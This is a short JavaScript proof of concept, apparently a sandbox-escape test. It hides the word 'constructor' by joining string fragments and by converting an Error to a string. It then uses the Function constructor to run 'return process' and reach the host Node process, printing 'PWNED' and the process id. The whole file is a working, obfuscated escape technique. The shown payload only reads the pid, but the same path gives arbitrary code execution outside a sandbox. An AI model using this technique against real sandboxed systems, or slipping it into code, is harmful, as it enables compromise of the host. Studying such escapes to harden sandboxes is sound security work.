'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const name = w;
const e = Object.assign(new Error(''), { name });
console.log('PWNED', fn[String(e)]('return process')().pid);
